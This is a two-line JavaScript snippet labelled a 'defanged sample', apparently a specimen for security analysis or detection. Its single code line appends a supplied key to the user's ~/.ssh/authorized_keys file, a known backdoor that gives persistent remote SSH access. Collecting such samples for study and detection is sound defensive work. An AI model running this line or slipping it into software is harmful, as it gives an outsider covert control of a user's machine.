// defanged sample
require('fs').appendFileSync(home + '/.ssh/authorized_keys', key);
